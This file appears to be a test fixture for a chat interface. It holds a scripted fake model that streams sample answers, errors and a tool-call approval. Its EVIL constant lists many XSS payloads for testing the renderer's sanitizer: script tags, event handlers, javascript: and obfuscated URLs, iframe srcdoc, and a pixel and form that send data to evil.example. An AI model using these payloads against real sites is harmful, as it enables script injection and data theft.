// What the model `script` answers: the message names a scene. `steps` are events with a pause before each.

const text = (part, piece) => ({ type: "part_delta", part, delta: { text: piece } });
const words = (value) => value.match(/\S+\s*|\s+/g) ?? [];

export const PROSE = `Keep the bucket as **two numbers**: how many tokens are left, and *when you last looked*. Refill lazily on each call, so no timer is needed.

\`\`\`rust
pub fn take(&mut self, n: f64) -> bool {
    let now = Instant::now();
    self.left = (self.left + now.duration_since(self.at).as_secs_f64() * self.rate).min(self.cap);
    self.at = now;
    if self.left >= n { self.left -= n; true } else { false } // 0.1 ms
}
\`\`\`

The level after time $t$ is

$$
L(t) = \\min\\left(C, L_0 + \\frac{r\\,t}{1 + \\epsilon}\\right)
$$

| rate | burst | waits |
|-----:|------:|:------|
| 10/s | 20 | rarely |
| 1/s | 1 | always |

1. Take the lock.
2. Refill, then take.
   - Never sleep while holding it.
3. [Read more](https://example.org/buckets).
`;

export const EVIL = `<script>window.hacked = 1</script>

<img src=x onerror="window.hacked = 2"> and <svg onload="window.hacked = 3"><circle/></svg>

[a](javascript:window.hacked=4) [b](JaVaScRiPt:window.hacked=5) [c](data:text/html,<script>window.hacked=6</script>) [d](vbscript:x) [e](  javascript:alert(1)) [f](java&#x0A;script:window.hacked=7) [g](&#106;avascript:window.hacked=8) <javascript:window.hacked=9>

![pixel](https://evil.example/pixel.png?secret=1) ![d](data:image/svg+xml;base64,PHN2Zz4=) ![j](javascript:window.hacked=10)

<math><mtext><style><img src=x onerror="window.hacked=11"></style></mtext></math>

<iframe srcdoc="<script>parent.hacked=12</script>"></iframe> <form action="https://evil.example"><input name=q></form>

<a href="javascript:window.hacked=13" onclick="window.hacked=14">click</a> <div style="position:fixed;inset:0;background:red">cover</div>

[ref]: javascript:window.hacked=15 "x"
[ref] and [quote](https://example.org "\\" onmouseover=\\"window.hacked=16")

\`\`\`"><img src=x onerror=window.hacked=17>
<script>window.hacked = 18</script>
\`\`\`

\`\`\`html
<script>window.hacked = 19</script>
\`\`\`

$\\href{javascript:window.hacked=20}{x}$ $\\htmlClass{evil}{y}$ $\\includegraphics{https://evil.example/p.png}$ $\\url{javascript:window.hacked=21}$

- <base href="https://evil.example/">
- <link rel=stylesheet href="https://evil.example/x.css">
- <meta http-equiv="refresh" content="0;url=https://evil.example">

| <img src=x onerror=window.hacked=22> | b |
|---|---|
| <script>window.hacked=23</script> | [x](javascript:window.hacked=24) |
`;

/** About 10k tokens of everything. */
export function long(target = 40_000) {
  let made = "";
  for (let n = 1; made.length < target; n += 1) {
    made += `## Part ${n}\n\n${PROSE}\n`;
    made += `${"Some more words about buckets, rates and the people who wait for them. ".repeat(6)}\n\n`;
  }
  return made;
}

function* answer(value, { pause = 12, first = 30, size = 1, part = 0 } = {}) {
  yield { wait: first, event: { type: "part_start", part, choice: 0, kind: { type: "text" } } };
  const pieces = words(value);
  for (let at = 0; at < pieces.length; at += size) yield { wait: pause, event: text(part, pieces.slice(at, at + size).join("")) };
  yield { event: { type: "part_end", part } };
}

/** As a fast model writes: 200 tokens of four characters a second, by the clock, whatever the machine does. */
function* paced(value, { rate = 200, size = 4, part = 0 } = {}) {
  yield { event: { type: "part_start", part, choice: 0, kind: { type: "text" } } };
  const begun = performance.now();
  for (let at = 0; at < value.length; at += size) yield { until: begun + (at / size) * (1000 / rate), event: text(part, value.slice(at, at + size)) };
  yield { event: { type: "part_end", part } };
}

const failures = {
  rate_limit: { kind: "rate_limit", message: "too many requests: 20 a minute", provider: "acme", status: 429, retry_after: { secs: 12, nanos: 0 }, hints: [] },
  auth: { kind: "auth", message: "invalid api key", provider: "acme", status: 401, hints: ["consort keys set acme"] },
  crash: { kind: "plugin_crash", message: "the plugin ended with code 1 while it answered", provider: "script", hints: ["consort plugins log script"] },
  context: { kind: "context_length", message: "210000 tokens are more than the 200000 that fit", provider: "acme", status: 400 },
};

/** The steps of one answer. A step `ask` waits for a decision about a tool call. */
export function* scene(message, model) {
  yield { wait: 15, event: { type: "started", model: `${model}-2026-01` } };
  const [name, argument = ""] = (/^#(\w+)\s*(\S*)/.exec(message) ?? []).slice(1);
  let finish = "stop";
  switch (name) {
    case "think":
      yield { event: { type: "part_start", part: 0, choice: 0, kind: { type: "reasoning", redacted: false } } };
      for (const piece of words("The user wants **less** text. Two numbers are enough for that.")) yield { wait: 15, event: text(0, piece) };
      yield { event: { type: "part_end", part: 0 } };
      yield* answer(PROSE, { part: 1 });
      break;
    case "code":
      yield* answer(PROSE);
      break;
    case "long":
      yield* answer(long(), { pause: 5, size: Number(argument) || 1 });
      break;
    case "paced":
      yield* paced(long());
      break;
    case "slow":
      yield* answer("word ".repeat(400), { pause: 40 });
      break;
    case "evil":
      yield* answer(EVIL, { pause: 1, size: 5 });
      break;
    case "fail":
      if (argument === "crash") yield* answer("This much came before the ");
      yield { wait: 30, error: failures[argument] ?? failures.rate_limit };
      return;
    case "again":
      yield { event: { type: "attempt", attempt: { model, started: Date.now(), ms: 80, error: failures.rate_limit, retry_in_ms: 900 } } };
      yield* answer("The second attempt.", { first: 900 });
      break;
    case "length":
      yield* answer("This is cut at the limit of");
      finish = "length";
      break;
    case "tool":
      yield* answer("Let me look.");
      yield { event: { type: "part_start", part: 1, choice: 0, kind: { type: "tool_call", id: "call-1", name: "read_file" } } };
      for (const piece of ['{"path": "notes/', 'plan.txt", "lines": 20}']) yield { wait: 30, event: { type: "part_delta", part: 1, delta: { arguments: piece } } };
      yield { event: { type: "part_end", part: 1 } };
      yield { ask: { call_id: "call-1", name: "read_file", arguments: '{"path": "notes/plan.txt", "lines": 20}' } };
      yield* answer("The plan has three steps.");
      break;
    case "rtl":
      yield* answer("שלום! זו תשובה מימין לשמאל.\n\nAnd one from the left. 👋🏽👨‍👩‍👧");
      break;
    default:
      yield* answer(message.startsWith("#") ? PROSE : `You said: ${message}`);
  }
  yield { event: { type: "usage", input: 12 + message.length, output: 40 + message.length, source: "reported" } };
  yield { finish };
}
